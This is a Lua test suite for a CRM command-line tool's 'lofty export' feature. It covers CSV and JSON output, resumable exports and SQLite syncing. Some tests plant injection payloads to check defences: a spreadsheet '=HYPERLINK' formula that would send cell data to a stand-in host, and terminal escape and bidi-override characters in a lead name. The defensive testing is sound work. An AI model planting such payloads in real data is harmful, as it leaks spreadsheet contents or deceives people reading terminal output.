-- SPDX-License-Identifier: MIT

-- `lofty export` against the emulator.
local command = require "spec.support.command"
local nginx = require "lofty.sandbox.nginx"

local has_sqlite = pcall(require, "luasql.sqlite3")

command.describe("lofty export", function()
  local on = command.set_up()

  local function run(arguments, opt)
    opt = opt or {}
    opt.variables = { LOFTY_API_KEY = opt.key or on.box.api_key }
    return on.user:run(arguments, opt)
  end

  local function lines_of(text)
    local list = {}
    for line in text:gmatch "[^\n]+" do list[#list + 1] = line end
    return list
  end

  it("writes the leads of a stage as CSV, with all digits of their ids", function()
    local code, out, err = run { "export", "leads", "stage=New Lead" }
    assert.equal(0, code, err)
    local lines = lines_of(out)
    assert.truthy(lines[1]:find "^leadId,firstName,lastName,emails,phones,stage,")
    assert.truthy(lines[2]:find("^651095960136641,Maria,Alvarez,lead1@mail.example,5125550000,New Lead,"), lines[2])
    assert.truthy(err:find((#lines - 1) .. " leads exported", 1, true), err)
  end)

  it("writes ids larger than 2^53 exactly", function()
    local code, out = run({ "export", "leads", "-f", "leadId,stage" }, { key = on.box.api_keys["9007199254740993"] })
    assert.equal(0, code)
    assert.truthy(out:find("\n9007199254740993,", 1, true))
    assert.truthy(out:find("\n1738234566814937089,", 1, true))
    assert.equal(41, #lines_of(out))
  end)

  it("writes whole records as JSON lines", function()
    local code, out = run { "export", "leads", "--jsonl" }
    assert.equal(0, code)
    local lines = lines_of(out)
    assert.equal(1250, #lines)
    assert.equal("Maria", require("lofty").json.decode(lines[1]).firstName)
  end)

  it("writes control characters of records to a file, but not to a terminal", function()
    local key = on.box.api_keys["113377"] -- an account without leads
    local crm = require("lofty").client { api_key = key, base_url = on.box.url }
    assert(crm.leads:create { firstName = "Ann\27[31m\194\155\226\128\174", emails = { "x@mail.example" } })
    for _, words in ipairs { {}, { "--jsonl" } } do
      local arguments = { "export", "leads", words[1] }
      local _, out = run(arguments, { key = key })
      assert.truthy(out:find("\194\155\226\128\174", 1, true), out)
      _, out = run(arguments, { key = key, terminal = true })
      assert.truthy(out:find("Ann", 1, true), out)
      assert.is_nil(out:find "[\27\194\226]", out)
    end
  end)

  it("writes members, transactions, listings and calls", function()
    for kind, count in pairs { members = 63, transactions = 130, listings = 180 } do
      local code, out, err = run { "export", kind }
      assert.equal(0, code, err)
      assert.equal(count + 1, #lines_of(out), kind)
    end
    local code, out, err = run { "export", "calls", "startTime=1760000000000", "endTime=1767700000000" }
    assert.equal(0, code, err)
    assert.truthy(#lines_of(out) > 1)
  end)

  it("rejects a filter that is given twice, and options that name nothing", function()
    for _, each in ipairs {
      { "stage=A", "stage=B", says = "stage is given twice" }, { "-f", "", says = "no field is named" },
      { "-f", ",,", says = "no field is named" },
      { "--to", "sqlite:" .. on.user:file "crm.db", "--with", "", says = "--with takes notes and tasks" },
    } do
      local code, out, err = run { "export", "leads", each[1], each[2], each[3], each[4] }
      assert.equal(2, code)
      assert.equal("", out)
      assert.truthy(err:find(each.says, 1, true), err)
    end
  end)

  it("rejects an unknown filter, and writes nothing", function()
    local code, out, err = run { "export", "leads", "stagee=x" }
    assert.equal(2, code)
    assert.equal("", out)
    assert.truthy(err:find("stage", 1, true), err)
  end)

  it("warns of formulas; lofty import --excel reads back what --excel guards", function()
    local key = on.box.api_keys["113377"] -- an account without leads
    local crm = require("lofty").client { api_key = key, base_url = on.box.url }
    assert(crm.leads:create { firstName = '=HYPERLINK("//x/"&A1,"x")', lastName = "'+1", emails = { "x@mail.example" } })
    local arguments = { "export", "leads", "-f", "firstName,lastName,emails" }
    local _, out, err = run(arguments, { key = key })
    assert.truthy(out:find('"=HYPERLINK', 1, true), out)
    assert.truthy(err:find("would take 1 cell for a formula", 1, true), err)
    arguments[#arguments + 1] = "--excel"
    _, out, err = run(arguments, { key = key })
    assert.truthy(out:find("\n\"'=HYPERLINK", 1, true), out)
    assert.is_nil(err:find("formula", 1, true), err)
    local file = on.user:file("leads.csv", out)
    local code
    code, out, err = run({ "import", file, "--excel" }, { key = key })
    assert.equal(0, code, err)
    assert.truthy(out:find("line 2: skip", 1, true), out)
    _, out, err = run({ "import", file }, { key = key })
    assert.truthy(out:find("line 2: update", 1, true), out)
    assert.truthy(err:find("2 cells with an apostrophe", 1, true), err)
  end)

  describe("with --resume", function()
    -- An output that can be read, measured and cut like a file.
    local function file()
      local text = ""
      return {
        write = function(self, ...)
          text = text .. table.concat({ ... })
          return self
        end,
        flush = function() end,
      }, function(size)
        if size then text = text:sub(1, size) end
        return text
      end
    end

    local function run_to(out, contents, arguments)
      return run(arguments, {
        out = out, out_size = function() return #contents() end,
        cut_out = function(size)
          contents(size)
          return true
        end,
      })
    end

    it("cuts off an incomplete page and continues, so that the file equals that of one export", function()
      local _, whole = run { "export", "leads", "-f", "leadId,firstName" }
      for _, page in ipairs { 1, 2, 7 } do
        local out, contents = file()
        local arguments = { "export", "leads", "-f", "leadId,firstName", "--resume", on.user:file "cursor" }
        on.box:control("fault", { path = "/v1.0/leads", status = 400, skip = page - 1, times = 1 })
        local code = run_to(out, contents, arguments)
        assert.is_not.equal(0, code)
        if page > 1 then
          -- What a kill leaves while a page is being written.
          contents(#contents() - 7)
        end
        local again, _, err = run_to(out, contents, arguments)
        assert.equal(0, again, err)
        assert.equal(whole, contents())
        assert.is_nil(io.open(on.user:file "cursor"))
      end
    end)

    it("refuses an output that is shorter than what was written before", function()
      local out, contents = file()
      local arguments = { "export", "leads", "--resume", on.user:file "cursor" }
      on.box:control("fault", { path = "/v1.0/leads", status = 400, skip = 2, times = 1 })
      run_to(out, contents, arguments)
      contents(0)
      local code, _, err = run_to(out, contents, arguments)
      assert.equal(1, code)
      assert.truthy(err:find("append with >> FILE", 1, true), err)
    end)

    it("refuses an output that another export writes to", function()
      if not (command.has "lua5.4" and command.has "flock") then
        pending "needs lua5.4 and flock"
        return
      end
      local path = nginx.quote(on.user:file("leads.csv", "kept\n"))
      local line = on.user:shell_words("export leads --resume " .. nginx.quote(on.user:file "cursor"),
        "LOFTY_API_KEY=" .. on.box.api_key)
      local said = nginx.shell(("exec 9>>%s; flock 9; %s 2>&1 >>%s; echo \"exit $?\""):format(path, line, path))
      assert.equal("lofty: export leads: the output is in use: another export writes to it\nexit 1", said)
      assert.equal("kept\n", nginx.contents(on.user:file "leads.csv"))
    end)

    it("refuses a cursor file with a size that is none", function()
      for _, size in ipairs { "-5", "0.5", '"x"' } do
        on.user:file("cursor", '{"cursor":"start","of":"leads","size":' .. size .. "}")
        local out, contents = file()
        local code, _, err = run_to(out, contents, { "export", "leads", "--resume", on.user:file "cursor" })
        assert.equal(1, code)
        assert.truthy(err:find("cursor is damaged: its size is not a whole number", 1, true), err)
        assert.equal("", contents())
      end
    end)

    it("refuses the cursor file of another export", function()
      local out, contents = file()
      on.box:control("fault", { path = "/v1.0/leads", status = 400, skip = 2, times = 1 })
      run_to(out, contents, { "export", "leads", "--resume", on.user:file "cursor" })
      local code, _, err = run_to(out, contents, { "export", "leads", "stage=Closed", "--resume", on.user:file "cursor" })
      assert.equal(1, code)
      assert.truthy(err:find("another export", 1, true), err)
    end)
  end)

  describe("to a database", function()
    if not has_sqlite then
      pending "needs lua-sql-sqlite3"
      return
    end

    local key

    local function query(statement)
      local environment = require("luasql.sqlite3").sqlite3()
      local connection = environment:connect(on.user:file "crm.db")
      local rows = assert(connection:execute(statement))
      if type(rows) == "number" then
        connection:close()
        environment:close()
        return
      end
      local list, row = {}, rows:fetch({}, "n")
      while row do
        list[#list + 1] = table.concat(row, "|")
        row = rows:fetch({}, "n")
      end
      rows:close()
      connection:close()
      environment:close()
      return table.concat(list, "\n")
    end

    before_each(function() key = on.box.api_keys["9007199254740993"] end)

    local function export(...)
      local code, _, err = run({ "export", "leads", "--to", "sqlite:" .. on.user:file "crm.db", ... }, { key = key })
      return code, err
    end

    local function client()
      return require("lofty").client { api_key = key, base_url = on.box.url, limit = 100000 }
    end

    it("has each lead once, with its exact id, and reports no change on a second run", function()
      for _ = 1, 2 do assert.equal(0, (export())) end
      assert.equal("40", query "select count(*) from leads")
      assert.equal("1", query "select count(*) from leads where id = 9007199254740993 and id = '9007199254740993'")
      local _, err = export()
      assert.truthy(err:find("40 records: 0 new or changed, 0 deleted", 1, true), err)
    end)

    it("keeps the history of stage and owner, and marks deleted leads", function()
      export()
      assert(client().leads:update("9007199254740993", { stage = "Contacted" }))
      assert(client().leads:delete("1738234566814937089", { reason = "duplicate" }))
      local code, err = export()
      assert.equal(0, code, err)
      assert.truthy(err:find("1 deleted", 1, true), err)
      assert.equal("Contacted", query [[select new from history where id = '9007199254740993' and field = 'stage'
        and old is not null]])
      assert.equal("1738234566814937089", query "select id from leads where deleted_at is not null")
    end)

    it("marks nothing as deleted that a later walk has seen, which runs at the same time", function()
      export()
      query [[update leads set id = 'seen by the later walk', seen_in = 1000 where id = '9007199254740993']]
      local code, err = export()
      assert.equal(0, code, err)
      assert.equal("", query "select id from leads where deleted_at is not null")
    end)

    it("waits for another process that writes, and names a database that stays locked", function()
      local statements = {}
      local connection = { close = function() end }
      function connection.execute(_, statement)
        statements[#statements + 1] = statement
        if not statement:find "^PRAGMA" then return nil, "LuaSQL: database is locked" end
        return { fetch = function() return {} end, close = function() end }
      end
      local driver = require "luasql.sqlite3"
      finally(function() package.loaded["luasql.sqlite3"] = driver end)
      package.loaded["luasql.sqlite3"] = {
        sqlite3 = function() return { connect = function() return connection end, close = function() end } end,
      }
      local code, err = export()
      assert.equal(1, code)
      assert.equal("PRAGMA busy_timeout = 10000", statements[1])
      assert.truthy(err:find("crm.db: LuaSQL: database is locked; another process uses it: run this again", 1, true), err)
    end)

    it("refuses a database of another program, and says which", function()
      query "create table history (other)"
      local code, err = export()
      assert.equal(1, code)
      assert.truthy(err:find("crm.db: LuaSQL: no such column: kind; it was not written by this version", 1, true), err)
    end)

    it("marks nothing as deleted after a walk that failed, was resumed or has a filter", function()
      key = on.box.api_key
      export()
      assert(client().leads:delete("651095960136641", { reason = "duplicate" }))
      assert.equal(0, (export("stage=Closed")))
      on.box:control("fault", { path = "/v1.0/leads", status = 400, skip = 3, times = 1 })
      assert.is_not.equal(0, (export()))
      assert.equal("0", query "select count(*) from leads where deleted_at is not null")
      local code, err = export()
      assert.equal(0, code)
      assert.truthy(err:find("run the command again", 1, true), err)
      assert.equal("0", query "select count(*) from leads where deleted_at is not null")
      assert.equal(0, (export()))
      assert.equal("651095960136641", query "select id from leads where deleted_at is not null")
    end)

    -- Of each: the responses to the walk, in their order, and a part of the message.
    for name, case in pairs {
      ["has no records and no total"] = { { '{"leads":null}', '{"leads":null}' }, "did not state a total of 0" },
      ["is an empty object"] = { { "{}", "[]" }, "did not state a total of 0" },
      ["overlaps"] = {
        { '{"leads":[{"leadId":1},{"leadId":2}],"_metadata":{"total":4}}',
          '{"leads":[{"leadId":2},{"leadId":3}],"_metadata":{"total":4}}' }, "3 different records but the server stated 4",
      },
      ["shrinks"] = {
        { '{"leads":[{"leadId":1},{"leadId":2}],"_metadata":{"total":900}}',
          '{"leads":[{"leadId":3}],"_metadata":{"total":3}}' }, "3 different records but the server stated 900",
      },
    } do
      it("marks nothing as deleted after a list that " .. name, function()
        assert.equal(0, (export()))
        for _, body in ipairs(case[1]) do
          on.box:control("fault", { path = "/v1.0/leads", status = 200, body = body, times = 1 })
        end
        local code, err = export()
        assert.equal(0, code, err)
        assert.truthy(err:find(case[2], 1, true), err)
        assert.truthy(err:find("0 deleted", 1, true), err)
        assert.equal("0", query "select count(*) from leads where deleted_at is not null")
      end)
    end

    it("marks all as deleted when the server states a total of 0", function()
      assert.equal(0, (export()))
      on.box:control("fault", { path = "/v1.0/leads", status = 200, body = '{"leads":[],"_metadata":{"total":0}}', times = 2 })
      local code, err = export()
      assert.equal(0, code, err)
      assert.truthy(err:find("40 deleted", 1, true), err)
    end)

    it("writes nothing of a page with a record that has no id", function()
      assert.equal(0, (export()))
      for id, part in pairs { ["null"] = "item 2 of the list has no leadId", ["[1]"] = "has no leadId", ["true"] = "has no leadId" } do
        on.box:control("fault", { path = "/v1.0/leads", status = 200, times = 1, body = '{"leads":[{"leadId":1},{"leadId":' .. id .. "}]}" })
        local code, err = export()
        assert.equal(7, code, err)
        assert.truthy(err:find(part, 1, true), err)
      end
      assert.equal("40", query "select count(*) from leads")
    end)

    it("says how many calls notes and tasks take, and fetches only those of changed leads", function()
      local code, err = export("--with", "notes,tasks")
      assert.equal(0, code, err)
      assert.truthy(err:find("40 leads changed: fetching notes and tasks takes 80 calls", 1, true), err)
      local notes = tonumber(query "select count(*) from notes")
      assert.truthy(notes > 0)
      local id = "9007199254740993"
      assert(client().notes:create { leadId = id, content = "it's new" })
      assert(client().leads:update(id, { stage = "Closed" }))
      on.box:journal(true)
      code, err = export("--with", "notes,tasks")
      assert.equal(0, code, err)
      assert.truthy(err:find("1 lead changed: fetching notes and tasks takes 2 calls", 1, true), err)
      assert.equal("it's new", query("select content from notes where leadId = '" .. id .. "' and content like '%new'"))
    end)
  end)
end)
